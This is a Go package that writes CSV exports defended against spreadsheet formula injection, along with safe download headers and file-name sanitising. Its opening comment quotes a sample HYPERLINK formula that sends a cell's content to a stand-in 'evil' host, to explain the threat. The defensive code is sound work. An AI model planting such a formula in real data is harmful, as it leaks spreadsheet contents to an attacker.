// Package csvexport writes CSV files people open in Excel or Google Sheets,
// safely: every export of enishi goes through it.
//
// A cell that begins with =, +, -, @, a tab or a carriage return is read by
// spreadsheets as a formula (CSV / formula injection, OWASP): a customer who
// names themselves `=HYPERLINK("http://evil/?"&A1,"click")` would run code
// in the shop's spreadsheet. Such cells are written with a leading single
// quote, which spreadsheets show as text and do not evaluate. Files start
// with a UTF-8 byte order mark so that Excel reads Japanese correctly, and
// use CRLF line ends.
package csvexport

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
)

// Writer writes escaped CSV rows.
type Writer struct {
	w *csv.Writer
}

// Options shape a file.
type Options struct {
	// NoBOM leaves out the UTF-8 byte order mark (for machine consumers).
	NoBOM bool
}

// New returns a Writer on w and writes the byte order mark.
func New(w io.Writer, opt Options) (*Writer, error) {
	if !opt.NoBOM {
		if _, err := io.WriteString(w, "\ufeff"); err != nil {
			return nil, err
		}
	}
	cw := csv.NewWriter(w)
	cw.UseCRLF = true
	return &Writer{w: cw}, nil
}

// Escape returns a cell as it must be written: cells a spreadsheet would
// evaluate get a leading single quote. Negative numbers written by the
// program itself stay numbers only if the caller passes them to Number.
func Escape(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + cell
	}
	// Full-width variants are folded to ASCII by some spreadsheets.
	if strings.HasPrefix(cell, "＝") || strings.HasPrefix(cell, "＋") || strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠") {
		return "'" + cell
	}
	return cell
}

// Number marks a cell as a number produced by enishi (an amount, a count),
// which is written as is even when negative.
type Number string

// Write writes one row. Cells are strings (escaped) or Number (verbatim).
func (w *Writer) Write(cells ...any) error {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case Number:
			row[i] = string(v)
		case string:
			row[i] = Escape(v)
		default:
			panic("csvexport: cells are string or csvexport.Number")
		}
	}
	return w.w.Write(row)
}

// WriteStrings writes a row of text cells.
func (w *Writer) WriteStrings(row []string) error {
	out := make([]string, len(row))
	for i, c := range row {
		out[i] = Escape(c)
	}
	return w.w.Write(out)
}

// Flush writes buffered rows and returns any write error.
func (w *Writer) Flush() error {
	w.w.Flush()
	return w.w.Error()
}

// Attachment sets the headers of a CSV download named filename (which is
// reduced to a safe base name).
func Attachment(h http.Header, filename string) {
	h.Set("Content-Type", "text/csv; charset=utf-8")
	h.Set("Content-Disposition", `attachment; filename="`+SafeFileName(filename)+`"`)
	h.Set("Cache-Control", "no-store")
	h.Set("X-Content-Type-Options", "nosniff")
}

// SafeFileName keeps letters, digits, '-', '_' and '.', drops path parts
// and leading dots, so a name can never climb directories or break a header.
func SafeFileName(name string) string {
	if i := strings.LastIndexAny(name, `/\`); i >= 0 {
		name = name[i+1:]
	}
	var b strings.Builder
	for _, r := range name {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9', r == '-', r == '_', r == '.':
			b.WriteRune(r)
		default:
			b.WriteByte('_')
		}
	}
	out := strings.TrimLeft(b.String(), ".")
	if out == "" {
		out = "export.csv"
	}
	return out
}
